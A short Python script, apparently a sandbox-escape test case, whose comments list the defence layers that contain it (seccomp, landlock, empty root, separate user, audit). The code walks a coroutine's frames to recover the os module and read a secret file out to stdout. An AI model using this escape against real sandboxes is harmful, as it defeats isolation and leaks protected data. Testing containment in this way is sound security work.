# Climbs from a running coroutine.
# evidence: token
# held by: seccomp, landlock, empty_root, other_user, audit
found = []


async def climb():
    frame = coroutine.cr_frame
    while frame:
        for value in list(frame.f_locals.values()):
            module = getattr(value, '__self__', None)
            if type(value).__name__ == 'builtin_function_or_method' and hasattr(module, 'pread'):
                found.append(module)
        frame = frame.f_back


coroutine = climb()
try:
    coroutine.send(None)
except StopIteration:
    pass
found[0].write(1, found[0].read(found[0].open(SECRET, 0), 100))
